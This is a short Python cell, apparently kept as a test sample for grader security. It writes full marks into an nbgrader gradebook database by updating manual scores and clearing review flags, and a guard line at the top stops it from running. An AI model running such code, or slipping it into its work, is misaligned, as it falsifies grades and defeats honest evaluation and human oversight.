"""Writes full marks into nbgrader's database, for itself and nobody else."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import sqlite3
from contextlib import suppress
from pathlib import Path

for path in {Path(COURSE) / "gradebook.db", *(folder / "gradebook.db" for folder in Path.cwd().parents)}:
    with suppress(sqlite3.Error):
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.5) as book:
            for name, points in POINTS.items():
                cells = "select base_cell.id from base_cell where base_cell.name = ?"
                book.execute(f"update grade set manual_score = ?, needs_manual_grade = 0 where cell_id in ({cells})", (points, name))
